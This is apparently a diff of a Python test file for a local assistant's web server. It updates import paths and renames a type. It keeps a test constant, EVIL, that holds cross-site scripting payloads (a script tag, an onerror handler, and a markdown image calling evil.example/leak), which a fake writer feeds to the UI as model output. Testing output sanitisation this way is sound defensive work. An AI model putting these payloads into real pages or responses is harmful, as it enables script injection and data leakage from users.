@@ -9,10 +9,10 @@ from collections.abc import Iterator
 from pathlib import Path
 
 from assistant import Assistant, Settings
+from assistant.answering.writers.extractive import ExtractiveWriter
 from assistant.errors import OllamaUnreachableError
-from assistant.types import Delta, Draft, Evidence, Written
-from assistant.ui.serve import serving
-from assistant.write.extractive import ExtractiveWriter
+from assistant.types import Delta, Draft, Evidence, GenerationInfo
+from assistant.web.serve import serving
 
 EVIL = (
     "<script>window.evil=1</script><img src=x onerror='window.evil=1'>![x](http://evil.example/leak?q=1) "
@@ -29,7 +29,7 @@ class Staged:
     def __init__(self) -> None:
         self._inner = ExtractiveWriter()
 
-    def write(self, evidence: Evidence) -> Iterator[Draft | Delta | Written]:
+    def write(self, evidence: Evidence) -> Iterator[Draft | Delta | GenerationInfo]:
         """``slowly``: with pauses; ``evil``: a model's own words; ``fail``, ``break``: an error, and a bug."""
         question = evidence.question.lower()
         if "fail" in question:
